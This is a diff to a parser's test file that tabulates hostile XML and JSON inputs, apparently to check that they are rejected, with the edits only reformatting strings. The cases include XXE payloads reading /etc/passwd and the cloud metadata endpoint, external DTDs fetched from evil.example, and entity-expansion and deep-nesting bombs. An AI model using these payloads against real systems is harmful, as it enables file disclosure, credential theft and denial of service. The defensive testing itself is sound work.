@@ -50,7 +50,7 @@ describe.skipIf(settings.long)('hostile input (README table): entity expansion, 
     ['a quadratic blow-up: one 100 kB entity referenced 10,000 times', `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(100_000)}">]>${TASK('&a;'.repeat(10_000))}`],
     ['an external entity (SYSTEM file:)', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${TASK('&x;')}`],
     ['an external entity (SYSTEM http:)', `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>${TASK('&x;')}`],
-    ['an external parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>' + TASK()],
+    ['an external parameter entity', `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${TASK()}`],
     ['an external DTD (SYSTEM)', `<!DOCTYPE Response SYSTEM "http://evil.example/x.dtd">${TASK()}`],
     ['an external DTD (PUBLIC)', `<!DOCTYPE Response PUBLIC "-//EVIL//DTD//EN" "http://evil.example/x.dtd">${TASK()}`],
     ['a lower-case <!doctype> without a subset', `<!doctype Response>${TASK()}`],
@@ -77,10 +77,10 @@ describe.skipIf(settings.long)('hostile input (README table): entity expansion, 
 describe.skipIf(settings.long)('hostile input (README table): deep and wide nesting', () => {
   it.each([
     ['1,000,000 nested elements (3 MB)', () => '<a>'.repeat(MB)],
-    ['100,000 nested JSON objects', () => '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)],
+    ['100,000 nested JSON objects', () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
     ['1,000,000 nested JSON arrays (2 MB)', () => '['.repeat(MB) + ']'.repeat(MB)],
-    ['65 levels ending in a self-closing element', () => '<a>'.repeat(64) + '<b/>' + '</a>'.repeat(64)],
-    ['65 levels of empty JSON objects', () => '{"a":'.repeat(64) + '{}' + '}'.repeat(64)],
+    ['65 levels ending in a self-closing element', () => `${'<a>'.repeat(64)}<b/>${'</a>'.repeat(64)}`],
+    ['65 levels of empty JSON objects', () => `${'{"a":'.repeat(64)}{}${'}'.repeat(64)}`],
   ])('%s → TOO_DEEP, no stack overflow', (_, makeBody) => {
     expect(codeOf(makeBody())).toBe('TOO_DEEP');
   });
